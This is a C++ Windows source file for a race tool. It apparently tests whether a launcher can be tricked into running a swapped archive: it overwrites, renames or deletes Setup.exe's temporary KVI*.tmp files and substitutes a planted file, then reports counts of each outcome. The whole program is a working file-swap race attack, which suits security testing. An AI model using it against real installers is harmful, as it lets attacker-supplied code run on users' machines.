// Races Setup.exe for its temporary archive, as any program of the same user
// could: the temporary folder lets the user delete and rename what lies in
// it. Until STOP exists, it keeps looking for KVI*.tmp in FOLDER and tries
// on every one, in turn, to overwrite it with PLANTED, to rename it away and
// put PLANTED in its place, and to delete it and put PLANTED in its place.
// A launcher that let go of its archive between copying and extracting
// would then extract and start the installer inside PLANTED.
//
// usage: racer FOLDER PLANTED STOP
// Writes "racer: overwritten N, renamed N, deleted N, refused N, search
// errors N" to standard output at the end; exit code 0.
#include <windows.h>

#include <cstdio>
#include <string>

int wmain(int argc, wchar_t** argv) {
  if (argc < 4) return 2;
  const std::wstring folder = std::wstring(argv[1]) + L"\\";
  const wchar_t* planted = argv[2];
  const wchar_t* stop = argv[3];
  long overwritten = 0, renamed = 0, deleted = 0, refused = 0, search_errors = 0;
  for (unsigned round = 0; GetFileAttributesW(stop) == INVALID_FILE_ATTRIBUTES; ++round) {
    WIN32_FIND_DATAW found;
    HANDLE search = FindFirstFileW((folder + L"KVI*.tmp").c_str(), &found);
    if (search == INVALID_HANDLE_VALUE) {
      // Nothing to race for yet, or the folder is briefly out of reach:
      // look again.
      if (GetLastError() != ERROR_FILE_NOT_FOUND) ++search_errors;
      Sleep(0);
      continue;
    }
    do {
      const std::wstring name = folder + found.cFileName;
      switch ((round + found.cFileName[3]) % 3) {
        case 0:
          if (CopyFileW(planted, name.c_str(), FALSE)) {
            ++overwritten;
            continue;
          }
          break;
        case 1:
          if (MoveFileExW(name.c_str(), (name + L".moved").c_str(), MOVEFILE_REPLACE_EXISTING)) {
            ++renamed;
            CopyFileW(planted, name.c_str(), TRUE);
            continue;
          }
          break;
        default:
          if (DeleteFileW(name.c_str())) {
            ++deleted;
            CopyFileW(planted, name.c_str(), TRUE);
            continue;
          }
          break;
      }
      ++refused;
    } while (FindNextFileW(search, &found));
    FindClose(search);
  }
  std::printf("racer: overwritten %ld, renamed %ld, deleted %ld, refused %ld, search errors %ld\n",
              overwritten, renamed, deleted, refused, search_errors);
  std::fflush(stdout);
  return 0;
}
